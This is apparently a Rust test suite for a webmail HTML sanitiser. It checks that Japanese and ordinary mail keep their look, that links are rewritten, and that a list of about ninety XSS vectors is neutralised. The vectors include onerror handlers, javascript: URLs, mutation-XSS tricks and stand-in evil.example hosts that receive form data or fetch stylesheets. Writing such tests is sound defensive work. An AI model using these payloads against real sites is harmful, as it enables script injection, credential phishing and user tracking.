use super::*;
use proptest::prelude::*;

const BASE: &str = "/api/v1/messages/5/inline/";

fn shown(html: &str) -> String {
    sanitise(html, BASE).html
}

/// What must never stand in sanitised HTML, whatever went in. Looks at tags as a browser would find them.
fn findings(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1).map(|t| t.split('>').next().unwrap_or(t)) {
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        if !TAGS.contains(&name.as_str()) {
            found.push(format!("element <{tag}>"));
        }
        let attributes = tag.split_once(' ').map(|(_, rest)| rest.to_lowercase()).unwrap_or_default();
        let outside_values: String = attributes.split('"').step_by(2).collect();
        for name in outside_values.split_whitespace().map(|a| a.trim_end_matches('=')) {
            let listed =
                ANYWHERE.contains(&name) || ATTRIBUTES.iter().any(|(_, names)| names.contains(&name));
            if !listed && !matches!(name, "rel" | "target") {
                found.push(format!("attribute {name} in <{tag}>"));
            }
        }
        let values: Vec<&str> = attributes.split('"').collect();
        for pair in values.chunks(2).filter(|p| p.len() == 2) {
            let value = pair[1].replace("&amp;", "&");
            let url = pair[0].trim_end().ends_with("href=") || pair[0].trim_end().ends_with("src=");
            let good = ["http://", "https://", "http:", "https:", "mailto:", "tel:", BASE];
            if url && !good.iter().any(|g| value.starts_with(g)) {
                found.push(format!("address {value}"));
            }
            if pair[0].trim_end().ends_with("src=") && !value.starts_with(BASE) {
                found.push(format!("fetch {value}"));
            }
            if pair[0].trim_end().ends_with("style=") && (value.contains("url") || value.contains('\\')) {
                found.push(format!("style {value}"));
            }
        }
    }
    found
}

/// Vectors of our own, by the kinds that DOMPurify's fixtures, the H5SC and the OWASP cheat sheet describe.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='//x.example/a 1x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x01;javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/settings'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='#x'>x</a>",
    "<a href='http://ok.example' onclick=alert(1)>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=blob:x>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    "<svg><feImage href='https://x.example/a'/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'>x</math>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style='background:u\\72l(//evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
    "<p style='color:red;;;--x:url(x)'>x</p>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</td></tr></table>",
    "<body onload=alert(1) background=//evil.example/x.png>",
    "<video src=x poster=//evil.example/x><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input type=image src=//evil.example/x>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<a id=x name=y class=z>x</a>",
    "<img src='cid:../../../me'>",
    "<img src='cid:a\"onerror=alert(1)'>",
    "<img src='/api/v1/messages/5/inline/../../me'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='blob:x'>",
    "<a href='tel:1' ping='//evil.example'>x</a>",
    "<img src='\\\\evil.example\\share\\x.png'>",
    "<b><script>alert(1)</b></script>",
    "<<img src=x onerror=alert(1)>>",
    "<img \u{0} src=x onerror=alert(1)>",
    "<a href='http://x.example/\u{202e}gpj.exe'>x</a>",
    "<bdo dir=rtl>x</bdo>",
    "<p>\u{2028}<script>\u{2029}alert(1)</script></p>",
    "<li style='list-style:url(//evil.example/x)'>x</li>",
];

#[test]
fn a_quotation_in_a_page_is_marked_as_in_a_text() {
    let page = "<p>田中 様</p><blockquote>締め切りは<br>明日です。</blockquote><p>承知しました。</p>";
    assert_eq!(text(page), "田中 様\n\n> 締め切りは\n> 明日です。\n\n承知しました。\n");
    assert_eq!(text("<p>&gt;&nbsp;一行</p>"), "> 一行\n");
}

#[test]
fn nothing_that_runs_or_fetches_survives() {
    for vector in VECTORS {
        let html = shown(vector);
        assert_eq!(findings(&html), Vec::<String>::new(), "{vector}\n  gave {html}");
        assert_eq!(shown(&html), html, "not stable: {vector}");
    }
}

#[test]
fn the_oracle_sees_what_it_should() {
    for bad in [
        "<script>",
        "<img src=\"//x\">",
        "<a href=\"javascript:1\">",
        "<p onclick=\"x\">",
        "<p style=\"a:url(x)\">",
    ] {
        assert!(!findings(bad).is_empty(), "{bad}");
    }
}

#[test]
fn pictures_of_the_mail_are_shown_and_others_are_counted() {
    let page = "<img src=\"cid:part1.ABC@example.jp\"><img src='https://evil.example/pixel.gif' width=1><img src=\"//x/y\"><img src=''>";
    let result = sanitise(page, BASE);
    assert_eq!(result.remote_images, 2);
    assert!(
        result.html.contains("src=\"/api/v1/messages/5/inline/part1.ABC@example.jp\""),
        "{}",
        result.html
    );
    assert!(!result.html.contains("evil.example"));
    assert_eq!(shown(&result.html), result.html);
}

#[test]
fn links_open_outside_and_lead_nowhere_back() {
    let html = shown("<a href='https://example.jp/?a=1&b=2'>x</a>");
    for part in
        ["href=\"https://example.jp/?a=1&amp;b=2\"", "rel=\"noopener noreferrer\"", "target=\"_blank\""]
    {
        assert!(html.contains(part), "{html}");
    }
}

#[test]
fn ordinary_mail_keeps_its_look() {
    let html = "<div style=\"color:#333\"><p>こんにちは<br>山田です</p><table border=\"1\"><tbody><tr><td>x</td></tr></tbody></table></div>";
    assert_eq!(shown(html), html);
    assert_eq!(shown("<title>x</title><style>p{}</style><p>y</p>"), "<p>y</p>");
}

#[test]
fn deep_and_huge_pages_are_shown_as_text() {
    let deep = format!("{}text{}", "<div>".repeat(100_000), "</div>".repeat(100_000));
    assert_eq!(shown(&deep), "<pre>text&#10;</pre>");
    for piece in ["<div></x>", "<div><!--</a>-->", "<div a='</x>'>", "&amp;</x>"] {
        assert!(shown(&piece.repeat(100_000)).starts_with("<pre>"), "{piece}");
    }
    let attributes = (0..100_000).map(|n| format!(" a{n}=b")).collect::<Vec<_>>().concat();
    assert_eq!(shown(&format!("<p{attributes}>text")), "<pre>text&#10;</pre>");
    assert_eq!(shown(&format!("text</p{attributes}>")), "<pre>text&#10;</pre>");
}

#[test]
fn pieces_of_pages_over_and_over_are_read_in_one_go() {
    for piece in ["<b>", "<", "<p a=b ", "&amp;", "<li>", "<!--", "<a><b><i><u></a>"] {
        shown(&piece.repeat(30_000));
    }
}

proptest! {
    #[test]
    fn pieces_of_attacks_put_together_wrongly_stay_harmless(
        pieces in prop::collection::vec(prop::sample::select(VECTORS.to_vec()), 1..4), cuts in prop::collection::vec(any::<prop::sample::Index>(), 3)
    ) {
        let mut page = pieces.concat();
        for cut in cuts {
            let at = page.char_indices().map(|(i, _)| i).nth(cut.index(page.chars().count())).unwrap();
            page = format!("{}{}", &page[at..], &page[..at]);
        }
        let html = shown(&page);
        prop_assert_eq!(findings(&html), Vec::<String>::new(), "{}", html);
        prop_assert_eq!(shown(&html), html);
    }
}
